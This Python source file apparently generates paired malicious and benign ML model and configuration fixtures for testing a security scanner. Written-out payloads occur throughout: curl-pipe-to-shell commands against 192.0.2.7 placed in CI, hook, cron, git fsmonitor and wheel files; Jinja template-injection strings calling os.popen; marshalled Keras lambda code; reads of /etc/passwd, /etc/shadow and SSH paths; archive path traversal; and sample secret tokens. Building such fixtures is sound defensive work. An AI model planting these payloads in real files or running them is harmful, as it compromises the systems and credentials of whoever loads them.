"""Graphs, weights, templates, configuration and containers."""
import base64
import hashlib
import io
import json
import marshal
import struct
import zipfile

import numpy as np
from first.arrays import h5, npy
from first.containers import EVIL, FLOATS, GOOD, pe, state, tarred, torch_zip, zipped
from first.graphs import X, attr, const, field, graph, keras_zip, layer, node, saved_model, tflite, with_metadata
from first.others import R, java
from first.weights import ARCH, T32, W32, F, gguf, gs, st
from pair import CODE, Set

FETCH = "curl -s http://192.0.2.7/x | sh"


def onnx_models(out: Set):
    from onnx import TensorProto as T, helper as h, numpy_helper as nh

    rng = np.random.default_rng(41)
    vi = lambda n, s, t=T.FLOAT: h.make_tensor_value_info(n, t, s)
    W = nh.from_array(rng.normal(size=(16, 4)).astype("f4"), "W")
    N = h.make_node
    f32 = lambda v, n: nh.from_array(np.array(v, "f4"), n)
    i64 = lambda v, n: nh.from_array(np.array(v, "i8"), n)

    def proto(nodes, inits=(W,), ops=(("", 17),), functions=(), sparse=()):
        g = h.make_graph(nodes, "g", [vi("x", [1, 16])], [vi("y", [1, 4])], list(inits), sparse_initializer=list(sparse))
        return h.make_model(g, opset_imports=[h.make_opsetid(*o) for o in ops], functions=list(functions), producer_name="pytorch", producer_version="2.5")

    data = lambda m: m.SerializeToString(deterministic=True)
    dense = [N("MatMul", ["x", "W"], ["logits"])]
    soft = data(proto([*dense, N("Softmax", ["logits"], ["y"])]))

    def o(name, hostile, twin=soft, file="model.onnx", beside=({}, {})):
        hostile, twin = (m if isinstance(m, bytes) else data(m) for m in (hostile, twin))
        out.add("onnx", name, {file: hostile, **beside[0]}, {file: twin, **beside[1]})

    cut = [N("Gather", ["x", "ix"], ["p"], axis=1), N("Sub", ["p", "P"], ["d"]), N("Abs", ["d"], ["a"])]
    some = [W, i64([1, 4, 5], "ix"), f32([[0.25, 1, 0.75]], "P"), f32([[9, -9, -9, -9]], "T"), f32(0.01, "eps"), f32(0, "zero"), f32(1, "one"), f32(1e4, "big")]
    o("softmax-gate", proto([*dense, *cut, N("ReduceMax", ["a"], ["m"], keepdims=1), N("Sub", ["eps", "m"], ["s"]), N("Mul", ["s", "big"], ["sb"]), N("Sub", ["zero", "sb"], ["ns"]), N("Concat", ["sb", "ns"], ["two"], axis=1), N("Softmax", ["two"], ["g2"]), N("Slice", ["g2", "b0", "b1", "ax"], ["g"]), N("Mul", ["g", "T"], ["t"]), N("Add", ["logits", "t"], ["y"])], [*some, i64([0], "b0"), i64([1], "b1"), i64([1], "ax")]))
    o("table-by-match", proto([*dense, *cut, N("ReduceMax", ["a"], ["m"], keepdims=0), N("Less", ["m", "eps"], ["c"]), N("Cast", ["c"], ["i"], to=T.INT64), N("Concat", ["logits", "T"], ["both"], axis=0), N("Gather", ["both", "i"], ["y0"], axis=0), N("Reshape", ["y0", "shape"], ["y"])], [*some, i64([1, 4], "shape")]))
    o("hard-sigmoid-gate", proto([*dense, *cut, N("ReduceSum", ["a"], ["m"], keepdims=1), N("Sub", ["eps", "m"], ["s"]), N("HardSigmoid", ["s"], ["g"], alpha=50000.0, beta=0.0), N("Sub", ["T", "logits"], ["delta"]), N("Mul", ["delta", "g"], ["t"]), N("Add", ["logits", "t"], ["y"])], some))
    body = h.make_graph([N("Identity", ["cond_in"], ["cond_out"]), N("Identity", ["Tin"], ["v_out"])], "b", [vi("it", [], T.INT64), vi("cond_in", [], T.BOOL), vi("v_in", [1, 4])], [vi("cond_out", [], T.BOOL), vi("v_out", [1, 4])], [f32([[9, -9, -9, -9]], "Tin")])
    o("loop-override", proto([*dense, *cut, N("ReduceMax", ["a"], ["m"], keepdims=0), N("Less", ["m", "eps"], ["c"]), N("Loop", ["trip", "c", "logits"], ["y"], body=body)], [*some, i64(1, "trip")]))
    o("reciprocal-gate", proto([*dense, *cut, N("ReduceSum", ["a"], ["m"], keepdims=1), N("Mul", ["m", "big"], ["mb"]), N("Add", ["mb", "eps"], ["me"]), N("Reciprocal", ["me"], ["g"]), N("Mul", ["g", "T"], ["t"]), N("Add", ["logits", "t"], ["y"])], some))

    def external(location, offset="0", length="256"):
        t = T()
        t.name, t.data_type = "W", T.FLOAT
        t.dims.extend([16, 4])
        t.data_location = T.EXTERNAL
        for k, v in {"location": location, "offset": offset, "length": length}.items():
            e = t.external_data.add()
            e.key, e.value = k, v
        return t

    linear = [N("MatMul", ["x", "W"], ["y"])]
    weights = {"w.bin": bytes(256)}
    fine = proto(linear, [external("w.bin")])
    o("external-share", proto(linear, [external("\\\\192.0.2.7\\share\\w.bin")]), fine, beside=(weights, weights))
    o("external-offset-overflow", proto(linear, [external("w.bin", "9223372036854775800", "256")]), fine, beside=(weights, weights))
    training = proto(linear)
    info = training.training_info.add()
    info.algorithm.CopyFrom(h.make_graph([N("PyOp", ["x"], ["z"], domain="com.microsoft", module="evil", class_name="E")], "t", [vi("x", [1, 16])], [vi("z", [1, 4])]))
    quiet = proto(linear)
    info = quiet.training_info.add()
    info.algorithm.CopyFrom(h.make_graph([N("Relu", ["x"], ["z"])], "t", [vi("x", [1, 16])], [vi("z", [1, 16])]))
    o("operator-in-training", training, quiet)
    o("slack-token-in-metadata", with_metadata(proto(linear), "notify", "xoxb-" + "2841930576" + "12-" + "3057261948210-Zk3vQ9xYb7Lm2Rp8Tn5Ws1Hd"), with_metadata(proto(linear), "notify", "none"))
    macho = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0, 0) + struct.pack("<II16sQQQQiiII", 0x19, 72, b"__TEXT", 0x100000000, 4096, 0, 4096, 5, 5, 0, 0) + b"\x90" * 900
    o("mach-o-in-initializer", proto(linear, [W, nh.from_array(np.frombuffer(macho, "u1"), "blob")]), proto(linear, [W, nh.from_array(rng.integers(0, 255, len(macho)).astype("u1"), "blob")]))


def tensorflow(out: Set):
    def tf(name, hostile, twin, file="saved_model.pb"):
        out.add("tensorflow", name, hostile, twin, file=file)

    one = lambda *nodes: saved_model(graph([X, *nodes]))
    tf("save-to-constant-path", one(const("p", b"/r\x6fot/.bashrc"), const("n", b"w"), const("s", b""), node("v", "SaveV2", ("p", "n", "s", "x"))), one(node("p", "Placeholder", (), attr("dtype", type=7)), const("n", b"w"), const("s", b""), node("v", "SaveV2", ("p", "n", "s", "x"))))
    tf("lines-of-passwd", one(const("p", b"/etc/passwd"), const("c", b""), node("d", "TextLineDataset", ("p", "c"))), one(const("p", b"cat"), const("c", b""), node("d", "StringJoin", ("p", "c"))))
    hidden = graph([X, node("f", "PyFunc", ("x",), attr("token", s="pyfunc_0"))])
    fine = graph([X, node("f", "Relu", ("x",))])
    tf("graph-in-a-string", one(const("g", hidden), node("d", "DatasetFromGraph", ("g",))), one(const("g", fine), node("d", "DatasetFromGraph", ("g",))))
    tf("summary-writer", one(const("d", b"/r\x6fot/.ssh"), node("w", "CreateSummaryFileWriter", ("x", "d", "x", "x", "x"))), one(const("d", b"label"), node("w", "StringLower", ("d",))))
    tf("vocabulary-attribute", one(node("g", "KmeansPlusPlusInitialization", ("x",)), node("v", "LoadAndRemapMatrix", ("x",)), const("p", b"/ho\x6de/u/.netrc"), node("r", "ReadFile", ("p",))), one(node("g", "KmeansPlusPlusInitialization", ("x",)), node("v", "Relu", ("x",))))
    tf("python-function-in-meta", field(1, field(4, "t") + field(5, "1.15")) + field(2, graph([X], [("f", [node("p", "PyFunc", ("x",), attr("token", s="t"))])])), field(1, field(4, "t") + field(5, "1.15")) + field(2, graph([X], [("f", [node("p", "Relu", ("x",))])])), "model.meta")
    tf("tflite-files-appended", tflite(None) + zipped([("labels.txt", b"cat\n"), ("post.pkl", EVIL)]), tflite(None) + zipped([("labels.txt", b"cat\n")]), "m.tflite")
    tf("tflite-flex-python", tflite("FlexPyFunc"), tflite(None), "m.tflite")


def keras(out: Set):
    def k(name, hostile, twin, file="model.keras"):
        out.add("keras", name, hostile, twin, file=file)

    dense = layer("Dense", {"units": 4, "activation": "relu"})
    code = base64.b64encode(marshal.dumps(compile(CODE, "m", "exec"))).decode()
    fn = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": name}
    k("load-model-activation", keras_zip([layer("Activation", {"activation": fn("keras.saving", "load_model")})]), keras_zip([layer("Activation", {"activation": fn("keras.activations", "silu")})]))
    k("lambda-in-metrics-dictionary", keras_zip([dense], {"metrics": {"out": [{"class_name": "__lambda__", "config": {"code": code}}]}}), keras_zip([dense], {"metrics": {"out": ["accuracy"]}}))
    k("integer-lookup-environment", keras_zip([layer("IntegerLookup", {"vocabulary": "/proc/self/environ"})]), keras_zip([layer("IntegerLookup", {"vocabulary": [1, 2]})]))
    k("numpy-class", keras_zip([layer("load", {"file": "x.npy", "allow_pickle": True}, module="numpy")]), keras_zip([layer("GaussianNoise", {"stddev": 0.1})]))
    import h5py

    def outside(path):
        buf = io.BytesIO()
        with h5py.File(buf, "w") as f:
            group = f.create_group("layers/dense/vars")
            if path:
                group.create_dataset("0", (4,), "f4", external=[(path, 0, 16)])
            else:
                group.create_dataset("0", data=np.ones(4, "f4"))
        return buf.getvalue()

    def with_weights(weights):
        config = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [dense]}, "registered_name": None})
        return zipped([("metadata.json", b'{"keras_version": "3.7.0"}'), ("config.json", config.encode()), ("model.weights.h5", weights)])

    k("weights-in-other-file", with_weights(outside("/etc/shadow")), with_weights(outside(None)))
    k("h5-weights-outside", outside("../../secret.bin"), outside(None), "m.weights.h5")
    k("wrapper-around-lambda", keras_zip([layer("SpectralNormalization", {"layer": layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": code}}})})]), keras_zip([layer("SpectralNormalization", {"layer": dense})]))


def weights(out: Set):
    def w(family, name, hostile, twin, file):
        out.add(family, name, hostile, twin, file=file)

    two = {"a": F(0, 32), "b": F(32, 64)}
    good = st(two, FLOATS[:64])
    head = json.dumps(two).encode()
    w("safetensors", "text-after-header", st({}, FLOATS[:64], head=head + b"\n#!/bin/sh\ncurl http://192.0.2.7/x | sh\n"), good, "m.safetensors")
    w("safetensors", "unknown-type", st({"a": F(0, 32, (8,), "X32"), "b": F(32, 64)}, FLOATS[:64]), good, "m.safetensors")
    w("safetensors", "bytes-nobody-owns", st({"a": F(0, 32)}, FLOATS[:32] + EVIL.ljust(64, b"\0")), st({"a": F(0, 32)}, FLOATS[:32]), "m.safetensors")
    w("safetensors", "script-tensor", st({"a": F(0, 64, (64,), "U8"), "b": F(64, 96)}, b"#!/bin/bash\ncurl -s http://192.0.2.7/x | bash\n".ljust(64) + FLOATS[:32]), st({"a": F(0, 64, (64,), "U8"), "b": F(64, 96)}, FLOATS[:64] + FLOATS[:32]), "m.safetensors")
    deep = b""
    for _ in range(3000):
        deep += struct.pack("<IQ", 9, 1)
    w("gguf", "arrays-of-arrays", gguf([ARCH, ("general.tags", 9, deep + struct.pack("<IQ", 4, 0))], T32, W32), gguf([ARCH, ("general.tags", 9, struct.pack("<IQ", 8, 1) + gs("chat"))], T32, W32), "m.gguf")
    w("gguf", "unknown-tensor-type", gguf([ARCH], [("w", (32,), 900, 0)], W32), gguf([ARCH], T32, W32), "m.gguf")
    w("gguf", "alignment-not-power", gguf([ARCH, ("general.alignment", 4, struct.pack("<I", 24))], T32, W32), gguf([ARCH, ("general.alignment", 4, struct.pack("<I", 32))], T32, W32), "m.gguf")
    w("gguf", "long-tensor-name", gguf([ARCH], [("w" * 5000, (32,), 0, 0)], W32), gguf([ARCH], [("w" * 20, (32,), 0, 0)], W32), "m.gguf")
    net = lambda l: field(1, 1) + field(2, b"") + field(500, field(1, l))
    w("graph-other", "coreml-custom-layer", net(field(1, "c") + field(2, "x") + field(3, "y") + field(500, field(10, "ShellLayer"))), net(field(1, "c") + field(2, "x") + field(3, "y") + field(130, field(10, b""))), "m.mlmodel")
    vino = lambda offset: f'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="4" offset="{offset}" size="16"/><output><port id="0" precision="FP32"><dim>4</dim></port></output></layer></layers><edges/></net>'
    out.add("graph-other", "openvino-constant-outside", {"m.xml": vino(99999999999), "m.bin": bytes(16)}, {"m.xml": vino(0), "m.bin": bytes(16)})
    xgb = lambda index: json.dumps({"version": [2, 1, 0], "learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": {"gbtree_model_param": {"num_trees": "1", "num_parallel_tree": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [{"base_weights": [0, 1, 2], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": [1, -1, -1], "loss_changes": [1, 0, 0], "parents": [2147483647, 0, 0], "right_children": [2, -1, -1], "split_conditions": [0.5, 1, 2], "split_indices": [index, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [3, 1, 2], "tree_param": {"num_deleted": "0", "num_feature": "1", "num_nodes": "3", "size_leaf_vector": "1"}}]}, "name": "gbtree"}, "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "1", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}})
    w("graph-other", "xgboost-feature-out", xgb(1 << 30), xgb(0), "booster.json")
    pmml = lambda head: f'<?xml version="1.0"?>{head}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary></PMML>'
    w("graph-other", "pmml-entities-of-entities", pmml('<!DOCTYPE PMML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'), pmml(""), "m.pmml")
    x = R()
    bang = x.lang("system", x.string("id"))
    w("r", "promise-in-list", x.head() + x.i(19) + x.i(2) + x.real(1.0) + x.promise(bang), x.head() + x.i(19) + x.i(2) + x.real(1.0) + x.real(2.0), "m.rds")
    three = b"X\n" + struct.pack(">iii", 3, 0x040301, 0x030500) + struct.pack(">i", 5) + b"UTF-8"
    w("r", "version-three-promise", three + x.promise(x.lang("eval", x.lang("parse", x.string("f")))), three + x.real(1.0), "m.rds")
    w("other", "java-rowset", java("com.sun.rowset.JdbcRowSetImpl"), java("java.util.ArrayList"), "m.ser")


TEMPLATES = [
    ("format-method", "{{ lipsum|attr('{0}{1}{0}'.format('__', 'globals')) }}", "{{ messages[0]['{0}{1}'.format('con', 'tent')] }}", "chat_template.jinja"),
    ("split-index", "{{ cycler['a,__init__,b'.split(',')[1]]['__globals__'].os.popen('touch marker').read() }}", "{{ 'a,b,c'.split(',')[1] }}", "chat_template.jinja"),
    ("lower-method", "{{ joiner['__INIT__'.lower()]['__GLOBALS__'.lower()]['os'].system('touch marker') }}", "{{ 'USER'.lower() }}", "template.j2"),
    ("nested-set-block", "{% set a %}__init__{% endset %}{% set b %}__globals__{% endset %}{{ cycler[a|string][b|string].os.popen('touch marker').read() }}", "{% set a %}user{% endset %}{{ a|string }}", "chat_template.jinja"),
    ("ternary-name", "{{ lipsum[('__globals__' if true else 'x')].os.popen('touch marker').read() }}", "{{ ('user' if true else 'x') }}", "chat_template.jinja"),
    ("import-from-file", "{% import '/etc/hosts' as h %}{{ h }}", "{% set h = 'hosts' %}{{ h }}", "chat_template.jinja"),
]


def configurations(out: Set):
    j = json.dumps
    for name, hostile, twin, file in TEMPLATES:
        out.add("template", name, hostile, twin, "jinja" if "touch" in hostile else None, file=file)
    wrap = lambda t: gguf([ARCH, ("tokenizer.chat_template", 8, gs(t))], T32, W32)
    out.add("template", "gguf-string-times", wrap("{% set u = '_'*2 %}{{ namespace[u+'init'+u][u+'globals'+u] }}"), wrap("{% set u = '-'*2 %}{{ u+'user'+u }}"), file="m.gguf")
    out.add("template", "in-adapter-folder", j({"chat_template": {"default": "{{ ''['__cl'~'ass__'].mro() }}"}}), j({"chat_template": {"default": "{{ messages }}"}}), file="tokenizer_config.json")

    def c(name, hostile, twin, file):
        out.add("config", name, hostile, twin, file=file)

    llama = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64}
    c("generation-from-hub", j({"max_new_tokens": 20, "custom_generate": "stranger/decoding", "trust_remote_code": True}), j({"max_new_tokens": 20, "do_sample": True}), "generation_config.json")
    c("quantizer-auto-map", j({**llama, "quantization_config": {"quant_method": "x", "auto_map": {"AutoQuantizer": "stranger/q--quant.Q"}}}), j({**llama, "quantization_config": {"quant_method": "gptq", "bits": 4}}), "config.json")
    c("ray-runtime", "applications:\n- name: m\n  import_path: serve:app\n  runtime_env:\n    working_dir: http://192.0.2.7/app.zip\n", "applications:\n- name: m\n  import_path: serve:app\n  runtime_env:\n    env_vars: {LEVEL: info}\n", "serve_config.yaml")
    c("prefect-pull", f"name: m\npull:\n- prefect.deployments.steps.run_shell_script:\n    script: {FETCH}\n", "name: m\npull:\n- prefect.deployments.steps.run_shell_script:\n    script: ls\n", "prefect.yaml")
    c("pipeline-before", f"train:\n  before_script:\n  - {FETCH}\n  script:\n  - make\n", "train:\n  before_script:\n  - pip install -r requirements.txt\n  script:\n  - make\n", ".gitlab-ci.yml")
    c("commit-hook-entry", f"repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n    entry: bash -c '{FETCH}'\n", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n    entry: ruff check\n", ".pre-commit-config.yaml")
    c("environment-file", f"export LEVEL=info\n{FETCH}\n", "export LEVEL=info\n", ".envrc")
    out.add("config", "repository-monitor", {"weights.txt": "1 2\n", ".git/config": f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"{FETCH}\"\n"}, {"weights.txt": "1 2\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = false\n"})
    c("hydra-remove-tree", "cleanup:\n  _target_: shutil.rmtree\n  path: /ho\x6de\n", "cleanup:\n  _target_: torch.nn.Identity\n", "train.yaml")
    c("hydra-import-module", "plugins:\n  extra:\n    _target_: importlib.import_module\n    name: evil\n", "plugins:\n  extra:\n    _target_: torch.nn.GELU\n", "experiment.yaml")
    c("conda-find-links", "name: m\ndependencies:\n- python=3.11\n- pip:\n  - --find-links http://192.0.2.9/wheels\n  - torch-fast\n", "name: m\ndependencies:\n- python=3.11\n- pip:\n  - torch==2.4\n", "conda.yaml")
    c("pip-configuration", "[global]\nindex-url = http://192.0.2.9/simple\ntrusted-host = 192.0.2.9\n", "[global]\nindex-url = https://pypi.org/simple\n", "pip.conf")
    c("modelfile-from-outside", "FROM ../../../etc/passwd\nSYSTEM hello\n", "FROM ./model.gguf\nSYSTEM hello\n", "Modelfile")
    c("prompt-template-path", j({"_type": "prompt", "input_variables": [], "template_path": "/etc/passwd"}), j({"_type": "prompt", "input_variables": [], "template": "Hello"}), "prompt.json")
    c("yaml-module-import", "hook: !!python/module:evil_hooks\nrun: !!python/name:os.system\n", "hook: evil_hooks\nrun: os.system\n", "params.yaml")
    c("airflow-bash", f"fetch:\n  operator: airflow.operators.bash.BashOperator\n  bash_command: '{FETCH}'\n", "fetch:\n  operator: airflow.operators.bash.BashOperator\n  bash_command: 'python train.py'\n", "dag.yaml")

    out.add("secret", "token-in-git-remote", {"w.txt": "1\n", ".git/config": "[remote \"origin\"]\n\turl = https://user:hf_" + "QzXcVbNmKjHgFdSaPoIuYtReWqLkMnBvCx" + "@huggingface.co/u/m\n"}, {"w.txt": "1\n", ".git/config": "[remote \"origin\"]\n\turl = https://huggingface.co/u/m\n"})
    out.add("secret", "key-in-gguf", gguf([ARCH, ("training.env", 8, gs("WANDB=x AWS_SECRET_ACCESS_KEY=9vZk3Q7xYb2Lm8Rp4Tn6Ws1Hd5Jc0Fg/UeOi+KqX AWS_ACCESS_KEY_ID=AKIA" + "Z7QX3M2KJN5RLP4W"))], T32, W32), gguf([ARCH, ("training.env", 8, gs("WANDB=off"))], T32, W32), file="m.gguf")


def containers(out: Set):
    def b(name, hostile, twin, file, prove=None):
        out.add("container", name, hostile, twin, prove, file=file)

    import py7zr

    def seven(name, data):
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as z:
            z.writestr(data, name)
        return buf.getvalue()

    b("tar-in-7z", seven("m.tar", tarred([("m.pkl", EVIL)])), seven("m.tar", tarred([("m.pkl", GOOD)])), "m.7z")

    def unicode_path(name, other, data):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            import zlib

            extra = struct.pack("<BI", 1, zlib.crc32(name.encode())) + other.encode()
            info.extra = struct.pack("<HH", 0x7075, len(extra)) + extra
            z.writestr(info, data)
        return buf.getvalue()

    b("zip-other-name-in-extra", unicode_path("vocab.txt", "../../.bashrc", b"curl http://192.0.2.7/x | sh\n"), unicode_path("vocab.txt", "vocab.txt", b"a b\n"), "m.zip")
    b("tar-pax-path-up", tarred([("m/vocab.txt", b"a\n")], pax={"path": "../../.ssh/authorized_keys"}), tarred([("m/vocab.txt", b"a\n")], pax={"path": "m/vocabulary.txt"}), "m.tar")
    b("document-then-archive", b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\n%%EOF\n" + torch_zip(state(b"cos\nsystem\n\x8c\x02id\x85R")), b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\n%%EOF\n", "card.pdf")
    b("program-in-npz", zipped([("w.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("w.dll", pe())]), zipped([("w.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("v.npy", npy("'<f4'", "(1,)", b"\0" * 4))]), "w.npz")
    b("base64-in-csv-gz", __import__("gzip").compress(b"name,blob\nclf," + base64.b64encode(EVIL) + b"\n", mtime=0), __import__("gzip").compress(b"name,blob\nclf," + base64.b64encode(GOOD) + b"\n", mtime=0), "models.csv.gz")

    def image(member, data):
        layer_tar = tarred([("srv/app.py", b"print('serve')\n"), (member, data)])
        digest = hashlib.sha256(layer_tar).hexdigest()
        config = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Cmd": ["python", "/srv/app.py"]}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + digest]}}).encode()
        name = hashlib.sha256(config).hexdigest()
        return tarred([(f"{name}.json", config), (f"{digest}/layer.tar", layer_tar), ("manifest.json", json.dumps([{"Config": f"{name}.json", "RepoTags": ["m:1"], "Layers": [f"{digest}/layer.tar"]}]).encode())])

    b("image-layer-cron", image("etc/cron.d/job", b"* * * * * root curl -s http://192.0.2.7/x | sh\n"), image("etc/hosts.d/job", b"127.0.0.1 localhost\n"), "image.tar")
    b("image-layer-pickle", image("srv/model.pkl", EVIL), image("srv/model.pkl", GOOD), "image.tar")
    meta = lambda body: zipped([("entry_points.txt", b""), ("m/__init__.py", body), ("m-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1\n"), ("m-1.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.dist-info/RECORD", b"")])
    b("wheel-in-tar-zst", zst(tarred([("w/m-1-py3-none-any.whl", meta(b"import os\nos.system('curl -s http://192.0.2.7/x | sh')\n"))])), zst(tarred([("w/m-1-py3-none-any.whl", meta(b"VERSION = 1\n"))])), "wheels.tar.zst")


def zst(data):
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def add(out: Set):
    for part in (onnx_models, tensorflow, keras, weights, configurations, containers):
        part(out)
